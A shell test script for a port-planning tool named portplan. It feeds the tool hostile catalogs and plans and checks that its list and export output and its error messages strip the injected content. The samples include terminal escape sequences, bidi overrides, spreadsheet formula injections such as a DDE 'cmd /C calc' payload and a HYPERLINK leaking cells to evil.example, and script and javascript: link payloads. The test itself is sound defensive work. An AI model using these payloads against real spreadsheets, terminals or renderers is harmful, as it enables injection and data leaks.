#!/bin/sh
# Output safety: a hostile catalog (made here, read with --catalog) whose
# labels, purposes, notes and fqdns carry C1 controls (CSI, OSC, NEL),
# bidirectional overrides and isolates, marks, BOMs, new lines, tabs,
# spreadsheet formulas and Markdown/HTML markup.  `list` text and CSV,
# `export --format md|csv` and every message must contain none of those
# control bytes; CSV cells must not start a formula; Markdown tables must
# keep their columns.  ESC itself cannot be in an XML file: a file holding
# raw ESC sequences must be refused with a clean message, and ESC in file
# and directory names must not reach the terminal either.
. "$(dirname "$0")/lib.sh"
H=${TESTS_SRCDIR:-$(dirname "$0")}/hostile
. "$H/common.sh"

if ! have_grep_p; then
	echo "grep -P is not available: skipped" >&2
	exit 77
fi

# the characters, as UTF-8 (printf octal escapes: dash has no \x)
CSI=$(printf '\302\233')	# U+009B control sequence introducer
OSC=$(printf '\302\235')	# U+009D operating system command
ST=$(printf '\302\234')		# U+009C string terminator
NEL=$(printf '\302\205')	# U+0085 next line
DCS=$(printf '\302\220')	# U+0090 device control string
RLO=$(printf '\342\200\256')	# U+202E right-to-left override
PDF=$(printf '\342\200\254')	# U+202C pop directional formatting
LRI=$(printf '\342\201\246')	# U+2066 left-to-right isolate
PDI=$(printf '\342\201\251')	# U+2069 pop directional isolate
RLM=$(printf '\342\200\217')	# U+200F right-to-left mark
ALM=$(printf '\330\234')	# U+061C Arabic letter mark
BOM=$(printf '\357\273\277')	# U+FEFF
FWEQ=$(printf '\357\274\235')	# U+FF1D fullwidth =
FWPLUS=$(printf '\357\274\213')	# U+FF0B fullwidth +
FWMINUS=$(printf '\357\274\215')	# U+FF0D fullwidth -
FWAT=$(printf '\357\274\240')	# U+FF20 fullwidth @
ESC=$(printf '\033')
BEL=$(printf '\007')

# Every hostile text carries the marker OSX, so that the checks below find
# the cells that came from the catalog.
HC=$T/hostile-catalog
mkdir -p "$HC"
cat >"$HC/hostile.xml" <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<catalog format="1">
  <zone id="os-zone"><label>OSX zone ${RLO}enoz${PDF} ${OSC}0;pwned-title${ST} ${DCS}q${ST}</label></zone>
  <endpoint id="os-peer" zone="internal">
    <label>=HYPERLINK("http://evil.example/?"&amp;A1,"OSX click")</label>
    <fqdn>${RLO}moc.OSX.example</fqdn>
  </endpoint>
  <product id="os-evil" vendor="${CSI}2J@OSX vendor">
    <label>@SUM(1+1) OSX evil ${RLO}lebal</label>
    <description>OSX line one&#10;line two&#13;&#10;| pipe | ${NEL}next ${CSI}31mred</description>
    <feature id="os-feat" default="true">
      <label>+OSX feature ${LRI}iso${PDI}</label>
      <help>-OSX help&#10;second line</help>
    </feature>
    <endpoint id="os-evil" zone="os-zone">
      <label>-OSX endpoint${CSI}31m red${CSI}0m</label>
      <fqdn>${RLO}moc.OSX.example</fqdn>
      <fqdn>OSX|host&#10;second</fqdn>
    </endpoint>
    <flow id="f-eq" from="os-evil" to="os-peer" proto="tcp" ports="1001" doc="=OSX doc" section="+OSX sec">
      <purpose>=1+2 OSX ${OSC}0;title${ST}</purpose>
      <note>@OSX note | with a pipe&#10;and a new line</note>
    </flow>
    <flow id="f-tab" from="os-evil" to="os-peer" proto="tcp" ports="1002" doc="&#9;=OSX doc" section="s">
      <purpose>&#9;=cmd|' /C calc'!A0 OSX</purpose>
    </flow>
    <flow id="f-crlf" from="os-evil" to="os-peer" proto="tcp" ports="1003" doc="d" section="s">
      <purpose>&#13;&#10;-2+3 OSX</purpose>
    </flow>
    <flow id="f-fw-eq" from="os-evil" to="os-peer" proto="tcp" ports="1004" doc="${FWEQ}OSX doc" section="s">
      <purpose>${FWEQ}1+2 OSX</purpose>
    </flow>
    <flow id="f-fw-plus" from="os-evil" to="os-peer" proto="tcp" ports="1005" doc="d" section="s">
      <purpose>${FWPLUS}1 OSX</purpose>
    </flow>
    <flow id="f-fw-minus" from="os-evil" to="os-peer" proto="tcp" ports="1006" doc="d" section="s">
      <purpose>${FWMINUS}1 OSX</purpose>
    </flow>
    <flow id="f-fw-at" from="os-evil" to="os-peer" proto="tcp" ports="1007" doc="d" section="s">
      <purpose>${FWAT}SUM(1) OSX</purpose>
    </flow>
    <flow id="f-bidi" from="os-evil" to="os-peer" proto="tcp" ports="1008" doc="OSX d${RLO}cod" section="s${ALM}${RLM}${BOM}">
      <purpose>OSX abc${RLO}fdp.exe ${NEL}${BOM}</purpose>
    </flow>
    <flow id="f-md" from="os-evil" to="os-peer" proto="tcp" ports="1009" doc="OSX|doc" section="a|b">
      <purpose>OSX a | b \\| c \\ d || e &lt;script&gt;alert(1)&lt;/script&gt; [x](javascript:alert(1)) \`code|\`</purpose>
    </flow>
    <flow id="f-inferred" from="os-evil" to="os-peer" proto="udp" ports="1010" doc="d" section="s" provenance="inferred">
      <purpose>-OSX inferred</purpose>
      <reason>=OSX reason&#10;=second</reason>
    </flow>
    <flow id="f-merge-a" from="os-evil" to="os-peer" proto="udp" ports="1011" doc="d" section="s">
      <purpose>OSX plain</purpose>
    </flow>
    <flow id="f-merge-b" from="os-evil" to="os-peer" proto="udp" ports="1011" doc="d" section="s">
      <purpose>=OSX merged | second</purpose>
    </flow>
    <gap id="g1" doc="=OSX gap" section="x|y">
      <text>OSX gap | text&#10;# not a heading ${CSI}2J&#10;- not a list</text>
    </gap>
  </product>
</catalog>
EOF
NFLOWS=12

expect_exit 0 "the hostile catalog is accepted (its texts are cleaned)" -- \
	"$PORTPLAN" check --catalog "$HC"
expect_clean "$T/out" "check: clean output"

# ---- list: text and CSV ------------------------------------------------------------
for what in products features endpoints zones flows gaps; do
	case $what in
	products|zones) set -- ;;
	*) set -- --product os-evil ;;
	esac
	expect_exit 0 "list $what" -- "$PORTPLAN" list "$what" "$@" --catalog "$HC"
	expect_clean "$T/out" "list $what: no control or bidi character"
	expect_clean "$T/err" "list $what: clean messages"
	cp "$T/out" "$T/list-$what.txt"
	expect_exit 0 "list $what --format csv" -- "$PORTPLAN" list "$what" "$@" --format csv --catalog "$HC"
	expect_clean "$T/out" "list $what --format csv: no control or bidi character" yes
	cp "$T/out" "$T/list-$what.csv"
done
# one line per row: new lines in the data never start a line of their own
n=$(grep -c . "$T/list-flows.txt")
[ "$n" -eq $((NFLOWS + 1)) ] && pass "list flows: one line per flow" ||
	fail "list flows: $n lines for $NFLOWS flows: $(cat "$T/list-flows.txt")"
n=$(grep -c . "$T/list-gaps.txt")
[ "$n" -eq 2 ] && pass "list gaps: one line per gap" || fail "list gaps: $n lines for 1 gap"
expect_no_grep '^(second|and a new line|line two|# not a heading)' "$T/list-flows.txt" "list flows: no line starts with data"
grep -q 'OSX' "$T/list-products.txt" && pass "list products shows the hostile product" ||
	fail "list products: the hostile product is missing"

# ---- export md and csv ---------------------------------------------------------------
set -- --product os-evil --feature os-feat --place os-evil=dmz --catalog "$HC"
expect_exit 0 "export md" -- "$PORTPLAN" export "$@" --format md -o "$T/cr.md"
expect_clean "$T/cr.md" "export md: no control or bidi character"
expect_clean "$T/err" "export md: clean messages"
expect_exit 0 "export csv" -- "$PORTPLAN" export "$@" --format csv -o "$T/cr.csv"
expect_clean "$T/cr.csv" "export csv: no control or bidi character" yes
expect_exit 0 "export md in German" -- "$PORTPLAN" export "$@" --format md --lang de
expect_clean "$T/out" "export md (de): no control or bidi character"
grep -q 'OSX' "$T/cr.md" && pass "the Markdown holds the hostile texts" || fail "no hostile text in the Markdown"

# Markdown: every row of a table has as many unescaped | as its header, no
# line starts with a heading or list marker from the data, no raw HTML
awk '
	function pipes(s) {
		gsub(/\\\\/, "", s)	# escaped backslashes
		gsub(/\\\|/, "", s)	# escaped pipes
		return gsub(/\|/, "", s)
	}
	/^\|/ {
		n = pipes($0)
		if (!intable) { want = n; intable = 1; head = NR }
		else if (n != want) { printf "line %d: %d cells separators, the header (line %d) has %d: %s\n", NR, n, head, want, $0; bad = 1 }
		next
	}
	{ intable = 0 }
	END { exit bad }
' "$T/cr.md" >"$T/md-check" && pass "Markdown tables keep their columns" ||
	fail "Markdown table broken: $(head -3 "$T/md-check")"
expect_no_grep '^#+ *not a heading|^- not a list|^(second|and a new line|line two)' "$T/cr.md" "Markdown: no line starts with data"
expect_no_grep '<script|<img|[^\\]\]\(javascript' "$T/cr.md" "Markdown: no raw HTML or links from data"

# CSV: RFC 4180 structure and the formula guard (python3's csv module)
if command -v python3 >/dev/null 2>&1; then
	for f in "$T/cr.csv" "$T/list-flows.csv" "$T/list-features.csv" "$T/list-endpoints.csv" \
		 "$T/list-products.csv" "$T/list-zones.csv" "$T/list-gaps.csv"; do
		if python3 - "$f" >"$T/csv-check" 2>&1 <<'EOF'
import csv, io, sys
bad = []
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    data = f.read()
lines = data.split("\r\n")
if lines[-1] != "":
    bad.append("does not end with CR LF")
rows = list(csv.reader(io.StringIO(data, newline="")))
head = rows[0]
formula = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
seen = 0
for i, row in enumerate(rows[1:], 2):
    if len(row) != len(head):
        bad.append("row %d has %d fields, the header %d" % (i, len(row), len(head)))
    for name, cell in zip(head, row):
        if "OSX" not in cell:
            continue
        seen += 1
        if cell.startswith(formula):
            bad.append("row %d, %s: a formula: %r" % (i, name, cell))
        if any(c in cell for c in "\r\n\t"):
            bad.append("row %d, %s: a line break or tab: %r" % (i, name, cell))
if seen == 0:
    bad.append("no hostile cell found")
print("\n".join(bad))
sys.exit(1 if bad else 0)
EOF
		then
			pass "$(basename "$f"): RFC 4180 rows, no formula in any cell"
		else
			fail "$(basename "$f"): $(head -5 "$T/csv-check" | tr '\n' ' ')"
		fi
	done
	# cells that started with a formula character are prefixed with '
	grep -q "\"'=1+2 OSX" "$T/cr.csv" && pass "CSV: =1+2 is prefixed with '" ||
		fail "CSV: =1+2 not guarded: $(grep -o '"[^"]*1+2 OSX[^"]*"' "$T/cr.csv" | head -2)"
	grep -q "\"'=cmd" "$T/cr.csv" && pass "CSV: a formula after a TAB is prefixed with '" ||
		fail "CSV: TAB=cmd not guarded: $(grep -o '"[^"]*cmd[^"]*"' "$T/cr.csv" | head -2)"
else
	echo "note: python3 not available: CSV structure checks skipped"
fi

# ---- invisible characters, long values, Markdown structure and links ---------------
ZWSP=$(printf '\342\200\213')	# U+200B zero-width space
ZWJ=$(printf '\342\200\215')	# U+200D zero-width joiner
WJ=$(printf '\342\201\240')	# U+2060 word joiner
SHY=$(printf '\302\255')	# U+00AD soft hyphen
LSEP=$(printf '\342\200\250')	# U+2028 line separator
PSEP=$(printf '\342\200\251')	# U+2029 paragraph separator
TAG=$(printf '\363\240\200\201\363\240\201\241')	# U+E0001 U+E0061 tag characters
# a reference of 3,000 bytes: 999 three-byte characters, one of them
# across byte 2,047 (where a fixed buffer once cut the cell)
LONGDOC=$(awk 'BEGIN { for (i = 0; i < 999; i++) printf "\342\202\254"; printf "OSXEND" }')
MC=$T/more-catalog
mkdir -p "$MC"
cat >"$MC/more.xml" <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<catalog format="1">
  <product id="os-more" vendor="In${ZWSP}visible">
    <label>OSX pay${ZWJ}pal${WJ} ${SHY}soft ${TAG}tags</label>
    <endpoint id="os-more" zone="dmz"><label>OSX line${LSEP}sep${PSEP}para</label></endpoint>
    <flow id="long-ref" from="os-more" to="ad" proto="tcp" ports="2001" doc="${LONGDOC}" section="OSX section 9.9">
      <purpose>1. OSX looks like a list</purpose>
    </flow>
    <flow id="links" from="os-more" to="ad" proto="tcp" ports="2002" doc="d" section="s">
      <purpose>- OSX see http://evil.example/x or https://evil.example/y or www.evil.example</purpose>
      <note>--- OSX &amp;copy; &amp;#64;</note>
    </flow>
  </product>
</catalog>
EOF
set -- --product os-more --catalog "$MC"
expect_exit 0 "export csv with a 3,000-byte reference" -- "$PORTPLAN" export "$@" --format csv -o "$T/more.csv"
expect_clean "$T/more.csv" "csv: no invisible character, valid UTF-8" yes
if command -v python3 >/dev/null 2>&1; then
	if python3 - "$T/more.csv" "$LONGDOC" >"$T/csv-ref" 2>&1 <<'EOF'
import csv, sys
want = sys.argv[2] + ", OSX section 9.9"
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
refs = [r["reference"] for r in rows if r["flow_id"] == "long-ref"]
if refs != [want]:
    print("reference cell: %d bytes, want %d: ...%r" % (len(refs[0].encode()) if refs else -1,
          len(want.encode()), refs[0][-30:] if refs else None))
    sys.exit(1)
EOF
	then
		pass "csv: the reference cell is whole (3,000 bytes)"
	else
		fail "csv: $(cat "$T/csv-ref")"
	fi
fi
expect_exit 0 "list products with invisible characters" -- "$PORTPLAN" list products --catalog "$MC"
expect_clean "$T/out" "list: no invisible character"
grep -q 'OSX paypal soft tags' "$T/out" && pass "list: the label reads as it shows" ||
	fail "list: $(grep OSX "$T/out")"
cat >"$T/notes.portplan" <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<plan format="1">
  <meta>
    <title>OSX title</title>
    <requester>- OSX ${ZWSP}requester</requester>
    <notes>1. OSX not a list http://evil.example/notes www.evil.example</notes>
  </meta>
  <product id="os-more"/>
</plan>
EOF
for notes in "1. NOTEX not a list" "- NOTEX not a bullet" "--- NOTEX" "+ NOTEX" "10) NOTEX"; do
	sed "s|<notes>.*</notes>|<notes>$notes</notes>|" "$T/notes.portplan" >"$T/n.portplan"
	expect_exit 0 "export md, notes \"$notes\"" -- "$PORTPLAN" export "$T/n.portplan" --catalog "$MC" -o "$T/n.md" --force
	grep -q NOTEX "$T/n.md" || fail "md: the notes \"$notes\" are missing"
	expect_no_grep '^(- |\+ |[0-9]+[.)] |---|===).*NOTEX' "$T/n.md" "md: the notes \"$notes\" make no list or rule"
done
expect_exit 0 "export md with links and invisible characters" -- "$PORTPLAN" export "$T/notes.portplan" --catalog "$MC" -o "$T/more.md"
expect_clean "$T/more.md" "md: no invisible character"
expect_no_grep 'https?://|www\.evil|&copy;|&#64;' "$T/more.md" "md: no bare URL or reference a renderer would make a link or a character of"
expect_no_grep '^- (- |1\. |--- )' "$T/more.md" "md: no list or rule nested in a bullet"
if command -v cmark-gfm >/dev/null 2>&1; then
	cmark-gfm -e autolink -e table "$T/more.md" >"$T/more.html"
	expect_no_grep '<a href|<ol|<li><ul|<li><ol|&copy;|©' "$T/more.html" "md rendered by cmark-gfm: no link, list or entity from the data"
	grep -q 'http://evil.example/notes' "$T/more.html" && pass "md rendered: the URL is shown as text" ||
		fail "md rendered: the URL is gone: $(grep -o 'evil[^<]*' "$T/more.html" | head -2)"
else
	echo "note: cmark-gfm not available: the rendered Markdown is not checked"
fi

# ---- messages quoting file content ---------------------------------------------------
# a file with raw ESC sequences, C1 controls, bidi characters and new lines
# in places a message quotes: refused, and the message is clean
mkdir -p "$T/bad1" "$T/bad2" "$T/bad3" "$T/bad4"
printf '<?xml version="1.0" encoding="UTF-8"?>\n<catalog format="1">\n  <zone id="os-z"><label>title%s]0;pwned%s %s[2J</label></zone>\n</catalog>\n' \
	"$ESC" "$BEL" "$ESC" >"$T/bad1/esc.xml"
expect_exit 1 "raw ESC in a label is refused" -- "$PORTPLAN" check --catalog "$T/bad1"
expect_grep "esc.xml:3: " "$T/err" "the ESC file and line are named"
expect_clean "$T/err" "the message about raw ESC is clean"
cat >"$T/bad2/quoted.xml" <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<catalog format="1">
  <product id="os-q" vendor="v">
    <label>L</label>
    <endpoint id="os-q" zone="dmz"><label>S</label></endpoint>
    <flow id="f" from="os-q" to="ad" proto="tcp${RLO}${CSI}2J${OSC}0;x${ST}" ports="1" doc="d" section="s"><purpose>p</purpose></flow>
  </product>
</catalog>
EOF
expect_exit 1 "a schema error quoting a hostile value" -- "$PORTPLAN" check --catalog "$T/bad2"
expect_grep "quoted.xml:6: .*proto" "$T/err" "the schema error names file, line and attribute"
expect_clean "$T/err" "the quoted value is cleaned in the message"
sed "s|proto=\"[^\"]*\"|proto=\"tcp\" when=\"nosuch${RLO}${CSI}2J\"|" "$T/bad2/quoted.xml" >"$T/bad3/quoted.xml"
expect_exit 1 "a condition naming an unknown feature with hostile characters" -- "$PORTPLAN" check --catalog "$T/bad3"
expect_clean "$T/err" "the quoted condition is cleaned in the message"
sed "s|<flow id=\"f\"|<flow id=\"f\" interfaces=\"A B\" preferred-interface=\"${RLO}${CSI}2J&#10;C\"|" "$T/bad2/quoted.xml" |
	sed 's|proto="[^"]*"|proto="tcp"|' >"$T/bad4/quoted.xml"
expect_exit 1 "an unknown preferred interface with hostile characters" -- "$PORTPLAN" check --catalog "$T/bad4"
expect_grep 'quoted.xml:6: ' "$T/err" "the preferred-interface error names file and line"
expect_clean "$T/err" "the quoted interface is cleaned in the message"

# ESC in the name of a catalog file, a catalog directory and a plan file
EVIL=$(printf 'x%s]0;pwned%s%s[2Jy%s' "$ESC" "$BEL" "$ESC" "$RLO")
mkdir -p "$T/names"
cp "$T/bad1/esc.xml" "$T/names/$EVIL.xml"
expect_exit 1 "a refused catalog file with ESC in its name" -- "$PORTPLAN" check --catalog "$T/names"
expect_clean "$T/err" "the file name in the message is cleaned"
mkdir -p "$T/dir$EVIL"
cp "$HC/hostile.xml" "$T/dir$EVIL/"
expect_exit 0 "a catalog directory with ESC in its name" -- "$PORTPLAN" check --catalog "$T/dir$EVIL"
expect_clean "$T/out" "check --catalog: the directory name is cleaned"
expect_exit 0 "save a plan under a name with ESC" -- "$PORTPLAN" save --product bems -o "$T/plan$EVIL.portplan"
expect_clean "$T/out" "save: clean output"
expect_clean "$T/err" "save: clean messages"
expect_exit 0 "check a plan named with ESC" -- "$PORTPLAN" check "$T/plan$EVIL.portplan"
expect_clean "$T/out" "check PLAN: the plan name is cleaned"
expect_clean "$T/err" "check PLAN: clean messages"

# ---- plans: hostile free text in a plan ------------------------------------------------
cat >"$T/hostile.portplan" <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<plan format="1">
  <meta>
    <title>=OSX title ${RLO}eltit ${CSI}2J ${NEL}next&#10;second line</title>
    <change-id>+OSX-1${OSC}0;pwned${ST}</change-id>
    <requester>@OSX ${LRI}x${PDI} &lt;admin@example.com&gt;</requester>
    <window>-OSX window&#9;tab | pipe</window>
    <notes>OSX notes | a | b &#13;&#10;# not a heading</notes>
  </meta>
  <product id="os-evil"><feature id="os-feat"/></product>
  <zone id="os-lab" label="OSX lab ${RLO}bal ${DCS}q${ST} | pipe"/>
  <endpoint id="os-evil" zone="os-lab"><hostname>evil.example.com</hostname></endpoint>
</plan>
EOF
expect_exit 0 "check a plan with hostile metadata" -- "$PORTPLAN" check "$T/hostile.portplan" --catalog "$HC"
expect_clean "$T/out" "check plan: clean output"
expect_clean "$T/err" "check plan: clean warnings"
expect_grep 'control or invalid characters removed' "$T/err" "check plan: says characters were removed"
expect_exit 0 "export a plan with hostile metadata (md)" -- "$PORTPLAN" export "$T/hostile.portplan" --catalog "$HC" -o "$T/plan.md"
expect_clean "$T/plan.md" "plan export md: no control or bidi character"
expect_clean "$T/err" "plan export md: clean warnings"
awk '/^\|/ { s = $0; gsub(/\\\\/, "", s); gsub(/\\\|/, "", s); n = gsub(/\|/, "", s)
	if (!t) { w = n; t = 1 } else if (n != w) bad = 1; next } { t = 0 } END { exit bad }' "$T/plan.md" &&
	pass "plan export md: tables keep their columns" || fail "plan export md: a table is broken"
expect_no_grep '^#+ *not a heading|^second line' "$T/plan.md" "plan export md: no line starts with data"
expect_exit 0 "export a plan with hostile metadata (csv)" -- "$PORTPLAN" export "$T/hostile.portplan" --catalog "$HC" --format csv -o "$T/plan.csv"
expect_clean "$T/plan.csv" "plan export csv: no control or bidi character" yes
expect_exit 0 "save the hostile plan again" -- "$PORTPLAN" save "$T/hostile.portplan" --catalog "$HC" -o "$T/resaved.portplan"
expect_clean "$T/resaved.portplan" "the saved plan holds no control or bidi character"
finish
